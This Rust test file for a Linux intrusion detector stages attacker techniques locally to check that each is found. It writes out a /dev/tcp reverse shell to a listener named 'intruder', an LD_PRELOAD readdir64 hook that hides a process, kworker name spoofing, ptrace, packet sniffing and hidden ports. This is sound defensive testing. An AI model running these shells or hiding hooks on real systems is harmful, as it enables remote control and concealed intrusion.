//! What hides or listens in, played out for real: each is found with its evidence, allowed by what its finding suggests,
//! and the honest things that look like it are quiet.

#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, reason = "a test may fail")]
#![expect(clippy::disallowed_methods, reason = "tests start real programs")]

mod support;

use host_watchdog::finding::{Code, Finding};
use host_watchdog::host::Host;
use host_watchdog::pass::{self, At, Memories, Watching};
use host_watchdog::policy::Policy;
use host_watchdog::processes::Processes;
use host_watchdog::watch::deception::linux::diag;
use serde_json::Value;
use std::io::{BufRead, BufReader};
use std::net::{TcpListener, TcpStream};
use std::os::fd::OwnedFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};
use support::{Running, is_root, left_out, wait_for};
use tempfile::TempDir;

const PYTHON: &str = "/usr/bin/python3";

/// A watchdog with only these eyes, remembering from pass to pass.
struct Eyes {
    watches: Vec<Box<dyn Watching>>,
    memory: Memories,
    host: Host,
}

impl Eyes {
    fn new() -> Self {
        let mut watches = pass::watches();
        watches.retain(|watch| watch.name() == "deception");
        Self { watches, memory: Memories::default(), host: Host::this() }
    }

    fn check(&mut self, policy: &str) -> Vec<Finding> {
        let policy = Policy::from_text("policy.toml", &format!("schema = 1\n{policy}")).unwrap();
        let at = At { host: &self.host, processes: &Processes::default(), now: self.host.now() };
        let snapshot = pass::look_all(&mut self.watches, &at, &policy, &mut self.memory);
        pass::check_all(&self.watches, &snapshot, &policy, &mut self.memory)
    }

    /// What is found of this process.
    fn of(&mut self, pid: u32) -> Vec<Finding> {
        let mut found = self.check("");
        found.retain(|finding| is_of(finding, pid));
        found
    }

    /// The one finding of this code and process; what it suggests, added, silences it.
    fn one(&mut self, code: Code, pid: u32) -> Finding {
        let found: Vec<Finding> = self.of(pid).into_iter().filter(|finding| finding.code == code).collect();
        assert_eq!(found.len(), 1, "{code}: {found:?}");
        let finding = found.into_iter().next().unwrap();
        let left = self.check(finding.suggest.as_ref().unwrap());
        assert!(!left.iter().any(|other| other.key() == finding.key()), "{finding:?}");
        finding
    }
}

fn is_of(finding: &Finding, pid: u32) -> bool {
    finding.evidence.get("pid").and_then(Value::as_array).is_some_and(|pids| pids.contains(&pid.into()))
}

/// Starts a program of Python that says when it is ready, and then waits.
fn play(before: &[&str], program: &str) -> Running {
    let program = format!("{program}\nprint('ready', flush=True)\nimport time\ntime.sleep(600)");
    let words: Vec<&str> = before.iter().copied().chain([PYTHON, "-c", program.as_str()]).collect();
    ready(Command::new(words[0]).args(&words[1..]))
}

fn ready(command: &mut Command) -> Running {
    let mut running = Running::start(command.stdout(Stdio::piped()));
    let mut line = String::new();
    BufReader::new(running.0.stdout.take().unwrap()).read_line(&mut line).unwrap();
    assert_eq!(line, "ready\n", "{command:?}");
    running
}

/// Starts a program and waits until it runs.
fn start(command: &mut Command, exe: &str) -> Running {
    let running = Running::start(command);
    let real = Path::new(exe).canonicalize().unwrap();
    let link = format!("/proc/{}/exe", running.pid());
    wait_for("the program to run", || std::fs::read_link(&link).is_ok_and(|link| link == real));
    running
}

fn sleeper() -> Command {
    let mut command = Command::new("/bin/sleep");
    command.arg("600");
    command
}

#[test]
fn a_program_that_calls_itself_a_thread_of_the_kernel_is_found_however_it_does_it() {
    let mut eyes = Eyes::new();
    let name = play(&[], "import ctypes; ctypes.CDLL(None).prctl(15, b'kworker/0:1', 0, 0, 0)");
    let found = eyes.one(Code::FalseKernelThread, name.pid());
    assert!(
        found.title.ends_with("calls itself kworker/0:1, like a thread of the kernel"),
        "{}",
        found.title
    );
    for argument in ["[kworker/0:1]", "[kthreadd]", "kworker/u8:2-events"] {
        let running = start(sleeper().arg0(argument), "/bin/sleep");
        assert_eq!(eyes.one(Code::FalseKernelThread, running.pid()).evidence["what"], argument);
    }
    let honest = start(sleeper().arg0("[worker] of something"), "/bin/sleep");
    assert_eq!(eyes.of(honest.pid()), []);
}

#[test]
fn a_shell_that_takes_its_commands_from_a_connection_is_found_with_the_other_end() {
    let mut eyes = Eyes::new();
    let intruder = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = intruder.local_addr().unwrap().port();
    let script = format!("exec /bin/sh -i <>/dev/tcp/127.0.0.1/{port} >&0 2>&0");
    let shell = start(Command::new("/bin/bash").args(["-c", &script]), "/bin/sh");
    let _connection = intruder.accept().unwrap();
    let found = eyes.one(Code::SocketShell, shell.pid());
    assert_eq!(found.evidence["what"], "127.0.0.1");
    let how = found.evidence["how"][0].as_str().unwrap();
    assert!(how.ends_with(&format!("to 127.0.0.1:{port}")), "{how}");
}

#[test]
fn the_shells_of_ssh_and_the_scripts_of_inetd_are_quiet() {
    let mut eyes = Eyes::new();
    // As sshd runs a command without a terminal.
    let (_ours, theirs) = UnixStream::pair().unwrap();
    let (input, output) = (OwnedFd::from(theirs.try_clone().unwrap()), OwnedFd::from(theirs));
    let mut command = Command::new("/bin/sh");
    let ssh = start(command.args(["-c", "read x; exit"]).stdin(input).stdout(output), "/bin/sh");
    // As inetd runs a script, and this a shell of its own.
    let folder = TempDir::new().unwrap();
    let script = folder.path().join("agent");
    std::fs::write(&script, "bash -c 'read x; exit'\nexit\n").unwrap();
    let door = TcpListener::bind("127.0.0.1:0").unwrap();
    let _client = TcpStream::connect(door.local_addr().unwrap()).unwrap();
    let (connection, _) = door.accept().unwrap();
    let (input, output) = (OwnedFd::from(connection.try_clone().unwrap()), OwnedFd::from(connection));
    let agent = start(Command::new("/bin/bash").arg(&script).stdin(input).stdout(output), "/bin/bash");
    let children = format!("/proc/{0}/task/{0}/children", agent.pid());
    let child = || std::fs::read_to_string(&children).ok()?.trim().parse::<u32>().ok();
    wait_for("the script's own shell", || {
        child().is_some_and(|child| {
            std::fs::read(format!("/proc/{child}/cmdline")).is_ok_and(|line| line.starts_with(b"bash\0-c"))
        })
    });
    for pid in [ssh.pid(), agent.pid(), child().unwrap()] {
        assert_eq!(eyes.of(pid), [], "{pid}");
    }
}

/// The process below this one that runs with these arguments.
fn below(pid: u32, arguments: &[u8]) -> u32 {
    let mut found = None;
    wait_for("the shell below it", || {
        let children =
            std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
        found = children.split_whitespace().filter_map(|child| child.parse().ok()).find(|child: &u32| {
            std::fs::read(format!("/proc/{child}/cmdline")).is_ok_and(|line| line == arguments)
        });
        found.is_some()
    });
    found.unwrap()
}

#[test]
fn a_script_that_goes_out_to_somebody_is_no_excuse_for_its_shell_but_may_print_there() {
    let mut eyes = Eyes::new();
    let folder = TempDir::new().unwrap();
    let script = folder.path().join("wrap");
    std::fs::write(&script, "bash -i\nexit\n").unwrap();
    let intruder = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = intruder.local_addr().unwrap().port();
    let out =
        format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec bash {} <&3 >&3 2>/dev/null", script.display());
    let wrapped = start(Command::new("/bin/bash").args(["-c", &out]), "/bin/bash");
    let _connection = intruder.accept().unwrap();
    let shell = below(wrapped.pid(), b"bash\0-i\0");
    // We are above both of them and listen, but not where its own end is.
    let found = eyes.one(Code::SocketShell, shell);
    assert!(found.evidence["how"][0].as_str().unwrap().ends_with(&format!("to 127.0.0.1:{port}")));
    // A report that is sent away.
    std::fs::write(&script, "sh -c 'sleep 600; exit'\nexit\n").unwrap();
    let report = format!("exec bash {} </dev/null >/dev/tcp/127.0.0.1/{port}", script.display());
    let report = start(Command::new("/bin/bash").args(["-c", &report]), "/bin/bash");
    let _report = intruder.accept().unwrap();
    let shell = below(report.pid(), b"sh\0-c\0sleep 600; exit\0");
    assert_eq!(eyes.of(shell), []);
}

#[test]
fn a_shell_in_a_network_namespace_of_its_own_is_found_on_the_connection_it_was_handed() {
    let mut eyes = Eyes::new();
    let intruder = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = intruder.local_addr().unwrap().port();
    let script =
        format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec unshare -rn bash -c 'read x; exit' <&3 >&3 2>&3");
    let mut shell = Command::new("/bin/bash");
    let shell = Running::start(shell.args(["-c", &script]));
    let (_connection, _) = intruder.accept().unwrap();
    let own = std::fs::read_link("/proc/self/ns/net").unwrap();
    let arguments = format!("/proc/{}/cmdline", shell.pid());
    let link = format!("/proc/{}/ns/net", shell.pid());
    let mut is_refused = false;
    wait_for("a shell elsewhere", || {
        is_refused = !Path::new(&link).exists();
        let is_shell = std::fs::read(&arguments).is_ok_and(|shown| shown.starts_with(b"bash\0-c\0read"));
        is_refused || (is_shell && std::fs::read_link(&link).is_ok_and(|link| link != own))
    });
    if left_out("user namespaces", !is_refused) {
        return;
    }
    let found = eyes.one(Code::SocketShell, shell.pid());
    assert!(found.evidence["how"][0].as_str().unwrap().ends_with(&format!("to 127.0.0.1:{port}")));
}

#[test]
fn a_socket_that_becomes_a_connection_later_is_found() {
    let mut eyes = Eyes::new();
    let intruder = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = intruder.local_addr().unwrap().port();
    // Whoever started the shell holds the socket too, and connects it when asked.
    let program = format!(
        "import socket,subprocess,sys\ns=socket.socket()\np=subprocess.Popen(['/bin/sh','-c','sleep 600; exit'],stdin=s,stdout=s)\nprint(p.pid,flush=True)\nsys.stdin.readline()\ns.connect(('127.0.0.1',{port}))\nprint('connected',flush=True)\np.wait()"
    );
    let mut command = Command::new(PYTHON);
    command.args(["-c", &program]).stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut opener = Running::start(&mut command);
    let mut answers = BufReader::new(opener.0.stdout.take().unwrap()).lines();
    let shell: u32 = answers.next().unwrap().unwrap().parse().unwrap();
    assert_eq!(eyes.of(shell), []);
    drop(opener.0.stdin.take());
    assert_eq!(answers.next().unwrap().unwrap(), "connected");
    let _connection = intruder.accept().unwrap();
    assert_eq!(eyes.one(Code::SocketShell, shell).evidence["what"], "127.0.0.1");
}

#[test]
fn a_library_from_where_others_may_write_is_found_and_others_are_not() {
    let mut eyes = Eyes::new();
    let open = TempDir::new().unwrap();
    std::fs::set_permissions(open.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let library = open.path().join("x.so").display().to_string();
    for (variable, value) in [
        ("LD_PRELOAD", library.clone()),
        ("LD_AUDIT", format!("libm.so.6:{library}")),
        ("LD_LIBRARY_PATH", format!("/usr/lib:{}", open.path().display())),
    ] {
        let running = start(sleeper().env(variable, &value).stderr(Stdio::null()), "/bin/sleep");
        let found = eyes.one(Code::PreloadedLibrary, running.pid());
        let what = found.evidence["what"].as_str().unwrap();
        assert!(what.starts_with(&format!("{variable}=/")) && !what.contains(':'), "{what}");
    }
    let own = TempDir::new().unwrap();
    std::fs::create_dir(own.path().join("lib")).unwrap();
    for (variable, value) in [
        ("LD_PRELOAD", "libm.so.6 libfakeroot.so".to_owned()),
        ("LD_LIBRARY_PATH", "/usr/lib/x86_64-linux-gnu::/usr/local/lib:".to_owned()),
        // As programs do that bring their libraries in a folder below /tmp (AppImage).
        ("LD_LIBRARY_PATH", own.path().join("lib").display().to_string()),
        ("LD_LIBRARY_PATH", "$ORIGIN/../lib".to_owned()),
        ("OTHER_LD_PRELOAD", library),
    ] {
        let running = start(sleeper().env(variable, &value).stderr(Stdio::null()), "/bin/sleep");
        assert_eq!(eyes.of(running.pid()), [], "{variable}={value}");
    }
}

#[test]
fn who_traces_another_is_found_until_it_lets_go() {
    let mut eyes = Eyes::new();
    let tracer = play(
        &[],
        "import ctypes, subprocess\n\
         dies_with_us = lambda: ctypes.CDLL(None).prctl(1, 9, 0, 0, 0)\n\
         child = subprocess.Popen(['/bin/sleep', '600'], stdout=subprocess.DEVNULL, preexec_fn=dies_with_us)\n\
         assert ctypes.CDLL(None).ptrace(0x4206, child.pid, None, None) == 0",
    );
    let found = eyes.one(Code::TracedProcess, tracer.pid());
    let sleep = Path::new("/bin/sleep").canonicalize().unwrap();
    assert_eq!(found.evidence["what"], sleep.to_str().unwrap());
    let pid = tracer.pid();
    drop(tracer);
    assert_eq!(eyes.of(pid), []);
}

#[test]
fn a_process_without_an_environment_is_found_once_it_is_no_newborn() {
    let mut eyes = Eyes::new();
    let bare = start(sleeper().env_clear(), "/bin/sleep");
    let dressed = start(sleeper().env_clear().env("A", "B"), "/bin/sleep");
    wait_for("it to be found", || !eyes.of(bare.pid()).is_empty());
    eyes.one(Code::NoEnvironment, bare.pid());
    assert_eq!(eyes.of(dressed.pid()), []);
}

#[test]
fn packet_and_raw_sockets_are_found_with_their_owners_also_in_other_network_namespaces() {
    if left_out("root", is_root()) {
        return;
    }
    let mut eyes = Eyes::new();
    let sockets = "import socket\n\
                   a = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))\n\
                   b = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n\
                   c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)";
    for before in [&[][..], &["unshare", "-n"]] {
        let running = play(before, sockets);
        assert_eq!(eyes.one(Code::PacketSocket, running.pid()).evidence["what"], "all packets");
        assert_eq!(eyes.one(Code::RawSocket, running.pid()).evidence["what"], "ICMP");
        assert_eq!(eyes.of(running.pid()).len(), 2);
    }
}

/// The findings of one pass of the program within namespaces of its own, which this makes ready. Nobody asks apt there,
/// which takes long.
fn check_within(unshare: &str, script: &str) -> Vec<Value> {
    let folder = TempDir::new().unwrap();
    let policy = folder.path().join("policy.toml");
    std::fs::write(&policy, "schema = 1\n").unwrap();
    let check = format!("exec {} check --json --policy {}", env!("CARGO_BIN_EXE_watchdog"), policy.display());
    let no_apt = "[ ! -e /usr/bin/apt-get ] || mount --bind /bin/true /usr/bin/apt-get";
    let script = format!("set -e\n{no_apt}\n{script}\n{check}");
    let options = unshare.split(' ');
    let output = Command::new("unshare").args(options).args(["/bin/sh", "-c", &script]).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", String::from_utf8_lossy(&output.stderr));
    let lines = String::from_utf8(output.stdout).unwrap();
    lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn with_code(found: &[Value], code: Code) -> Vec<&Value> {
    found.iter().filter(|finding| finding["code"] == code.as_str()).collect()
}

#[test]
fn a_socket_that_has_an_interface_take_packets_for_others_says_so() {
    if left_out("root", is_root()) {
        return;
    }
    let sniff = "import socket, struct, time\n\
                 s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))\n\
                 n = socket.if_nametoindex(\"dummy1\")\n\
                 s.setsockopt(263, 1, struct.pack(\"IHH8s\", n, 1, 0, b\"\"))\n\
                 print(\"ready\", flush=True)\ntime.sleep(600)";
    let script = format!(
        "mount -t sysfs sysfs /sys\n\
         for at in 0 1 2; do ip link add dummy$at type veth peer name other$at; ip link set dummy$at up; done\n\
         ip link add bridge0 type bridge\nip link set dummy2 master bridge0\n\
         ip link set dummy0 promisc on\n\
         mkfifo $PIPE\n{PYTHON} -c '{sniff}' >$PIPE &\nread ready <$PIPE"
    );
    let folder = TempDir::new().unwrap();
    let script = script.replace("$PIPE", &folder.path().join("pipe").display().to_string());
    let found = check_within("-mnpf --kill-child --mount-proc", &script);
    // Made so by hand, asked for by a socket, and not the port of a bridge.
    let names: Vec<&Value> =
        with_code(&found, Code::PromiscuousLink).iter().map(|finding| &finding["subject"]).collect();
    assert_eq!(names, ["link dummy0", "link dummy1"]);
    let sniffers = with_code(&found, Code::PacketSocket);
    let how =
        |finding: &&&Value| finding["evidence"]["how"][0] == "it had dummy1 take packets that are for others";
    assert_eq!(sniffers.iter().filter(how).count(), 1, "{sniffers:?}");
}

#[test]
fn a_process_that_proc_does_not_list_is_found_by_its_number() {
    if left_out("root", is_root()) {
        return;
    }
    let (victim, other) = (start(&mut sleeper(), "/bin/sleep"), start(&mut sleeper(), "/bin/sleep"));
    let folder = TempDir::new().unwrap();
    // A /proc that has everything but this one: what a thing in the kernel would show.
    let script = format!(
        "mount --bind /proc {0}\nmount -t tmpfs none /proc\n\
         for name in {0}/*; do ln -s $name /proc/${{name##*/}}; done\n\
         rm /proc/self /proc/mounts /proc/net /proc/{1}\n\
         ln -s $$ /proc/self\nln -s self/mounts /proc/mounts\nln -s self/net /proc/net",
        folder.path().display(),
        victim.pid(),
    );
    let found = check_within("-m", &script);
    let hidden = with_code(&found, Code::HiddenProcess);
    let tells_of = |pid: u32| {
        let words = format!("process {pid}");
        hidden.iter().any(|finding| {
            let how = finding["evidence"]["how"].as_array().unwrap();
            how.iter().any(|how| how.as_str().unwrap().split(", ").next() == Some(&words))
        })
    };
    assert!(tells_of(victim.pid()), "{found:?}");
    assert!(!tells_of(other.pid()) && !tells_of(std::process::id()), "{hidden:?}");
}

#[test]
fn a_process_that_a_library_slipped_into_the_watchdog_hides_from_it_is_found() {
    let has_compiler = Command::new("gcc").arg("--version").output().is_ok();
    if left_out("root", is_root()) || left_out("gcc", has_compiler) {
        return;
    }
    let victim = start(&mut sleeper(), "/bin/sleep");
    let folder = TempDir::new().unwrap();
    let (source, library) = (folder.path().join("hide.c"), folder.path().join("hide.so"));
    let code = format!(
        "#define _GNU_SOURCE\n#include <dirent.h>\n#include <dlfcn.h>\n#include <string.h>\n\
         struct dirent64 *readdir64(DIR *folder) {{\n\
         struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, \"readdir64\");\n\
         struct dirent64 *entry;\n\
         do entry = real(folder); while (entry && !strcmp(entry->d_name, \"{}\"));\n\
         return entry;\n}}\n",
        victim.pid()
    );
    std::fs::write(&source, code).unwrap();
    let made =
        Command::new("gcc").args(["-shared", "-fPIC", "-o"]).args([&library, &source]).status().unwrap();
    assert!(made.success());
    let found = check_within("-m", &format!("export LD_PRELOAD={}", library.display()));
    let hidden = with_code(&found, Code::HiddenProcess);
    let subject = format!(
        "{} missing in what the C library lists of /proc",
        Path::new("/bin/sleep").canonicalize().unwrap().display()
    );
    let subjects: Vec<&Value> = hidden.iter().map(|finding| &finding["subject"]).collect();
    assert_eq!(subjects, [subject.as_str()]);
    assert_eq!(hidden[0]["evidence"]["pid"][0], victim.pid());
}

#[test]
fn a_mount_over_the_folder_of_a_process_is_found() {
    if left_out("root", is_root()) {
        return;
    }
    let victim = start(&mut sleeper(), "/bin/sleep");
    let found = check_within("-m", &format!("mount --bind /proc/1 /proc/{}", victim.pid()));
    let hidden = with_code(&found, Code::HiddenProcess);
    let how: Vec<&str> =
        hidden.iter().map(|finding| finding["evidence"]["how"][0].as_str().unwrap()).collect();
    let subject = "its folder in /proc is covered by a mount of proc, another process";
    assert!(hidden.iter().all(|finding| finding["subject"] == subject), "{hidden:?}");
    assert!(how.len() == 1 && how[0].starts_with(&format!("process {}", victim.pid())), "{how:?}");
}

#[test]
fn a_port_that_is_missing_in_a_list_is_found() {
    if left_out("root", is_root()) {
        return;
    }
    let door = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = door.local_addr().unwrap().port();
    let folder = TempDir::new().unwrap();
    let folder = folder.path().display();
    let hide = format!(
        "for table in tcp tcp6 udp udp6; do cat /proc/net/$table >{folder}/$table; done\n\
         grep -v ' 0A ' /proc/net/tcp >{folder}/tcp\nmount --bind {folder} /proc/$$/net"
    );
    let found = check_within("-m", &hide);
    let words = format!("tcp port {port} is open and missing in /proc/net");
    assert!(
        with_code(&found, Code::HiddenPort).iter().any(|finding| finding["subject"] == words.as_str()),
        "{found:?}"
    );
}

#[test]
fn an_ordinary_user_is_told_how_much_could_not_be_looked_into() {
    if left_out("root", is_root()) {
        return;
    }
    let folder = TempDir::new().unwrap();
    let path = folder.path().display();
    std::fs::set_permissions(folder.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let script = format!(
        "mount -t tmpfs none {path}; cp {} {path}/watchdog; echo 'schema = 1' >{path}/policy.toml; chmod 755 {path}\n\
         exec setpriv --reuid nobody --regid nogroup --clear-groups {path}/watchdog check --json --policy {path}/policy.toml",
        env!("CARGO_BIN_EXE_watchdog")
    );
    let found = check_within("-m", &script);
    let gaps = with_code(&found, Code::CoverageGap);
    assert!(gaps.iter().any(|gap| gap["subject"] == "deception-process"), "{gaps:?}");
    assert_eq!(with_code(&found, Code::HiddenProcess), Vec::<&Value>::new());
}

#[test]
fn the_kernel_tells_of_one_port_whether_somebody_listens_there() {
    let mut ports = diag::Ports::open().unwrap();
    for address in ["127.0.0.1:0", "0.0.0.0:0", "[::1]:0", "[::]:0"] {
        let door = TcpListener::bind(address).unwrap();
        let port = door.local_addr().unwrap().port();
        assert!(ports.listens(port).unwrap(), "{address}");
        let client = TcpStream::connect(door.local_addr().unwrap()).unwrap();
        assert!(!ports.listens(client.local_addr().unwrap().port()).unwrap());
        drop((door, client));
        assert!(!ports.listens(port).unwrap(), "{address}");
    }
}

#[test]
fn a_bpf_program_is_found_with_who_holds_it() {
    let load = "import ctypes, platform, struct, sys\n\
        number = {'x86_64': 321, 'aarch64': 280}[platform.machine()]\n\
        code = ctypes.create_string_buffer(struct.pack('<BBhi', 0xb7, 0, 0, 0) + struct.pack('<BBhi', 0x95, 0, 0, 0))\n\
        words = ctypes.create_string_buffer(b'GPL')\n\
        load = struct.pack('<IIQQIIQII', 1, 2, ctypes.addressof(code), ctypes.addressof(words), 0, 0, 0, 0, 0) + bytes(80)\n\
        load = ctypes.create_string_buffer(load)\n\
        if ctypes.CDLL(None).syscall(number, 5, load, 120) < 0: print('no BPF', flush=True), sys.exit()";
    let probe = Command::new(PYTHON).args(["-c", load]).output().unwrap();
    if left_out("the right to load BPF programs", probe.status.success() && probe.stdout.is_empty()) {
        return;
    }
    let mut eyes = Eyes::new();
    eyes.check("");
    let holder = play(&[], load);
    let found = eyes.one(Code::UnknownBpf, holder.pid());
    assert_eq!(found.evidence["type"], "socket_filter");
    let pid = holder.pid();
    drop(holder);
    assert_eq!(eyes.of(pid), []);
}
